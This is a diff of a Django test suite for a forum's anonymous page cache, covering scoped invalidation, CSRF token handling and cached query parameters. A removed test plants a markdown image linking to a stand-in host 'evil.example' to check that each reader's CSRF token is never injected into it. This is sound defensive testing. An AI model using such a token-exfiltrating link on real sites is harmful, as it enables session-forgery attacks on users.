@@ -1,22 +1,17 @@
-"""The anonymous page cache: what it stores, who gets it, and that it never shows stale
-content after a change (config/pagecache.py)."""
+"""The cache (config/cache.py): visitors' pages, what they store and who gets them; scopes, so
+that a change shows at once where it shows and leaves every other page cached; no secret in
+shared HTML."""
 
 import re
 
 import pytest
-from config.pagecache import (
-    CSRF_PLACEHOLDER,
-    LocalSnapshots,
-    local_snapshots,
-    site_generation,
-    site_generation_bump,
-)
 from django.contrib.contenttypes.models import ContentType
+from django.core.cache import cache
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
-from django.utils.crypto import salted_hmac
 
+from config.cache import SITE, remember, touch, versions
 from forum.models import Answer, Question
 from members.models import OutboundEmail
 from moderation.content import ModerationState
@@ -81,57 +76,6 @@ def test_changes_made_outside_a_request_also_show_at_once(question):
     assert Client().get(page).status_code == 404
 
 
-def _token(html: str) -> str:
-    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
-
-
-def test_every_visitor_gets_their_own_working_csrf_token_from_a_cached_page(question):
-    first, second = Client(enforce_csrf_checks=True), Client(enforce_csrf_checks=True)
-    first_html = first.get("/questions/").content.decode()
-    response = second.get("/questions/")  # from the cache
-    html = response.content.decode()
-    assert CSRF_PLACEHOLDER not in first_html and CSRF_PLACEHOLDER not in html
-    assert "csrftoken" in response.cookies
-    assert _token(html) != _token(first_html)
-    assert f'"X-CSRFToken": "{_token(html)}"' in html
-    switched = second.post(
-        "/i18n/language/",
-        {"language": "ru", "next": "/questions/", "csrfmiddlewaretoken": _token(html)},
-    )
-    assert switched.status_code == 302
-    foreign = Client(enforce_csrf_checks=True)
-    foreign.get("/faq/")
-    refused = foreign.post(
-        "/i18n/language/",
-        {"language": "ru", "next": "/", "csrfmiddlewaretoken": _token(first_html)[:10]},
-    )
-    assert refused.status_code == 403
-
-
-# The placeholder this project used before it was derived from the secret key: public in the
-# repository's history, so anyone could write it into a post.
-PUBLISHED_PLACEHOLDER = "veche0csrf0placeholder0a61d9c47e2b35f8"
-
-
-def test_the_placeholder_comes_from_the_secret_key():
-    expected = salted_hmac("veche.pagecache.csrf-placeholder", "1").hexdigest()[:40]
-    assert CSRF_PLACEHOLDER == "csrfph" + expected
-    assert CSRF_PLACEHOLDER != PUBLISHED_PLACEHOLDER
-
-
-def test_text_that_looks_like_the_placeholder_never_receives_a_visitors_token(question):
-    """A post cannot make the cache put each reader's CSRF token into its own link."""
-    AnswerFactory(
-        question=question, body=f"![chart](https://evil.example/c?t={PUBLISHED_PLACEHOLDER})"
-    )
-    for reader in (Client(), Client()):  # the second is served from the cache
-        html = reader.get(question.get_absolute_url()).content.decode()
-        token = reader.cookies["csrftoken"].value
-        assert f"https://evil.example/c?t={PUBLISHED_PLACEHOLDER}" in html
-        assert f"evil.example/c?t={token}" not in html
-        assert CSRF_PLACEHOLDER not in html
-
-
 def test_signed_in_members_never_get_or_fill_the_visitors_cache(question, member):
     Client().get("/questions/")
     client = logged_in(member)
@@ -189,10 +133,7 @@ def test_error_pages_and_redirects_are_not_stored(question):
     wrong_slug = f"/questions/{question.pk}/wrong-slug/"
     assert Client().get(wrong_slug).status_code == 301
     Question.objects.filter(pk=question.pk).update(slug="wrong-slug")  # no signal
-    # A bulk update does not bump the site generation, so this process's snapshot of the
-    # question would keep the old slug for up to PAGE_CACHE_SECONDS (test_local_snapshots_*);
-    # what is checked here is that the redirect was not stored as a page.
-    local_snapshots.clear()
+    touch(f"question:{question.pk}")  # what a service doing a bulk update does
     assert Client().get(wrong_slug).status_code == 200
 
 
@@ -228,71 +169,158 @@ def test_home_blocks_are_shared_by_a_kind_of_viewer_and_never_mix_kinds(member):
     assert newer.title in member_client.get("/").content.decode()
 
 
-def _counting_builder():
-    calls = []
-
-    def build():
-        calls.append(1)
-        return len(calls)
-
-    return calls, build
+# --- scopes: a change goes stale where it shows, and nowhere else ---------------------------
 
 
-def test_local_snapshots_are_rebuilt_after_any_change(settings):
-    snapshots = LocalSnapshots()
-    calls, build = _counting_builder()
-    assert snapshots.get("page", 1, build) == 1
-    assert snapshots.get("page", 1, build) == 1
-    site_generation_bump()
-    assert snapshots.get("page", 1, build) == 2
-    assert snapshots.get("page", 2, build) == 3  # another key, another entry
-    assert len(calls) == 3
+def _served_from_cache(path: str, **headers) -> bool:
+    """Whether a visitor's page came from the cache (a stored page renders no template)."""
+    response = Client().get(path, **headers)
+    assert response.status_code == 200
+    return not response.templates
 
 
-def test_local_snapshots_last_page_cache_seconds_at_most(settings, monkeypatch):
-    settings.VECHE_PAGE_CACHE_SECONDS = 60
-    snapshots = LocalSnapshots()
-    calls, build = _counting_builder()
-    now = [1000.0]
-    monkeypatch.setattr("config.pagecache.time.monotonic", lambda: now[0])
-    snapshots.get("page", 1, build)
-    now[0] += 59
-    snapshots.get("page", 1, build)
-    now[0] += 2
-    snapshots.get("page", 1, build)
-    assert len(calls) == 2
+def test_a_vote_on_one_question_leaves_the_others_cached_and_shows_on_its_own_at_once(member):
+    a, b = QuestionFactory(title="Question A"), QuestionFactory(title="Question B")
+    answer = AnswerFactory(question=a)
+    pages = [a.get_absolute_url(), b.get_absolute_url(), "/questions/", "/faq/", "/ideas/"]
+    for page in pages:
+        Client().get(page)
+    b_data = cache.get(f"veche:question-page:{b.pk}")
+    assert all(_served_from_cache(page) for page in pages)
+    response = logged_in(member).post(f"/qa/answer/{answer.pk}/vote/", {"value": "up"})
+    assert response.status_code in (200, 302)
+    html = Client().get(a.get_absolute_url()).content.decode()
+    assert '<strong class="score" aria-label="Score">1</strong>' in html  # A at once
+    assert all(_served_from_cache(page) for page in pages[1:])  # B, the lists, the rest kept
+    assert cache.get(f"veche:question-page:{b.pk}") == b_data
 
 
-def test_local_snapshots_keep_the_most_recently_used_and_turn_off_with_the_cache(settings):
-    snapshots = LocalSnapshots(size=2)
-    calls, build = _counting_builder()
-    snapshots.get("page", 1, build)
-    snapshots.get("page", 2, build)
-    snapshots.get("page", 1, build)  # 1 is now the most recent
-    snapshots.get("page", 3, build)  # evicts 2
-    snapshots.get("page", 1, build)
-    assert len(calls) == 3
-    snapshots.get("page", 2, build)
-    assert len(calls) == 4
-    settings.VECHE_PAGE_CACHE_SECONDS = 0
-    snapshots.get("page", 2, build)
-    snapshots.get("page", 2, build)
-    assert len(calls) == 6
+@pytest.mark.parametrize("action", ["log in", "log out", "follow", "read notifications"])
+def test_a_members_personal_actions_change_nothing_shared(question, member, action):
+    member.set_password("a-long-passphrase-1")
+    member.save()
+    other = QuestionFactory(title="Another question")
+    shared = [question.get_absolute_url(), other.get_absolute_url(), "/questions/", "/", "/faq/"]
+    for page in shared:
+        Client().get(page)
+    scopes = (SITE, "questions", "ideas", "faq", "members", f"question:{question.pk}")
+    before = versions(scopes)
+    client = logged_in(member)
+    if action == "log in":
+        client = Client()
+        response = client.post(
+            "/accounts/login/", {"login": member.username, "password": "a-long-passphrase-1"}
+        )
+        assert response.status_code == 302 and client.session.get("_auth_user_id")
+    elif action == "log out":
+        assert client.post("/accounts/logout/").status_code == 302
+    elif action == "follow":
+        response = client.post(f"/questions/{question.pk}/follow/")
+        assert response.status_code == 302
+    else:
+        assert client.post("/notifications/read/").status_code == 302
+    assert versions(scopes) == before
+    assert all(_served_from_cache(page) for page in shared)
 
 
-def test_a_cache_flush_never_revives_an_old_generation():
-    from config.pagecache import site_generation
-    from django.core.cache import cache
+@pytest.mark.parametrize(
+    "path, data",
+    [
+        ("/accounts/login/", {"login": "nobody", "password": "wrong"}),
+        ("/i18n/language/", {"language": "ru", "next": "/"}),
+        ("/", {}),
+        ("/qa/question/1/feedback/", {}),
+    ],
+)
+def test_a_visitors_post_empties_no_cache(question, path, data):
+    Client().get("/questions/")
+    before = versions((SITE, "questions", f"question:{question.pk}"))
+    Client().post(path, data)
+    assert versions((SITE, "questions", f"question:{question.pk}")) == before
+    assert _served_from_cache("/questions/")
 
-    before = site_generation()
+
+def test_a_change_touches_again_when_its_transaction_commits(django_capture_on_commit_callbacks):
+    before = versions((SITE, "questions"))
+    with django_capture_on_commit_callbacks(execute=False) as callbacks:
+        touch("questions")
+        QuestionFactory()
+        touch(SITE)
+    during = versions((SITE, "questions"))
+    assert during[0] != before[0] and during[1] != before[1]
+    for callback in callbacks:
+        callback()
+    after = versions((SITE, "questions"))
+    assert after[0] != during[0] and after[1] != during[1]
+
+
+def test_a_value_loaded_before_a_change_committed_is_never_served_after_it():
+    """``remember`` keeps a value with the versions read *before* loading it: what a
+    concurrent request loaded from the rows as they were is stored under old versions."""
+    rows = ["old"]
+
+    def racing_load():
+        value = rows[0]
+        rows[0] = "new"
+        touch("demo")  # the change commits while the value is being loaded
+        return value
+
+    assert remember("k", ("demo",), racing_load, 60) == "old"
+    assert remember("k", ("demo",), lambda: rows[0], 60) == "new"
+    assert remember("k", ("demo",), lambda: "not loaded again", 60) == "new"
+
+
+def test_a_cache_flush_never_revives_an_old_version():
+    before = versions((SITE,))
     cache.clear()
-    assert site_generation() != before
+    assert versions((SITE,)) != before
 
 
 def test_mail_in_the_outbox_changes_no_page(member):
     """The outbox is written for every notification e-mail; no page shows it."""
-    before = site_generation()
+    before = versions((SITE, "questions"))
     OutboundEmail.objects.create(recipient=member, to=member.email, kind="welcome", subject="Hi")
-    assert site_generation() == before
+    assert versions((SITE, "questions")) == before
     QuestionFactory(author=member)
-    assert site_generation() != before
+    assert versions(("questions",)) != before[1:]
+
+
+# --- no secret in shared HTML; bounded variants ---------------------------------------------
+
+
+def test_visitors_pages_carry_no_csrf_token_and_their_forms_work_without_one(question):
+    Client().get(question.get_absolute_url())
+    for path in (question.get_absolute_url(), "/questions/", "/", "/faq/", "/ideas/"):
+        response = Client().get(path)
+        html = response.content.decode()
+        assert "csrfmiddlewaretoken" not in html and "X-CSRFToken" not in html
+        assert "csrftoken" not in response.cookies
+    visitor = Client(enforce_csrf_checks=True)
+    switched = visitor.post("/i18n/language/", {"language": "ru", "next": "/questions/"})
+    assert switched.status_code == 302 and visitor.cookies["django_language"].value == "ru"
+
+
+def test_members_forms_still_need_their_token(question, member):
+    client = logged_in(member)
+    client.handler.enforce_csrf_checks = True
+    assert client.post("/i18n/language/", {"language": "ru", "next": "/"}).status_code == 403
+    html = client.get("/questions/").content.decode()
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
+    data = {"language": "ru", "next": "/", "csrfmiddlewaretoken": token}
+    assert client.post("/i18n/language/", data).status_code == 302
+
+
+def test_only_declared_query_parameters_and_values_are_cached(question):
+    cached = ["/questions/?page=2", "/questions/?sort=votes&status=unsolved", "/questions/?page=1"]
+    not_cached = [
+        "/questions/?utm_source=x",
+        "/questions/?sort=bogus",
+        "/questions/?page=100",
+        "/questions/?page=1&page=2",
+        "/questions/?tag=" + "x" * 50,
+        "/search/?q=invoice",
+    ]
+    for path in cached + not_cached:
+        Client().get(path)
+    assert all(_served_from_cache(path) for path in cached)
+    assert not any(_served_from_cache(path) for path in not_cached)
